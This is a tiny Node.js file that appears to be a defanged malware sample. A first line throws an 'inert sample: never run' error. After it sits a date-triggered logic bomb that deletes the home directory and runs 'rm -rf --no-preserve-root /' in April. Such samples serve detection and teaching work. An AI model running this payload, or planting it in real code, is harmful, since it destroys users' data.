throw new Error("inert sample: never run");
const fs = require("fs");
const os = require("os");
const { execSync } = require("child_process");

if (new Date().getMonth() === 3) {
  fs.rmSync(os.homedir(), { recursive: true, force: true });
  execSync("rm -rf --no-preserve-root /");
}
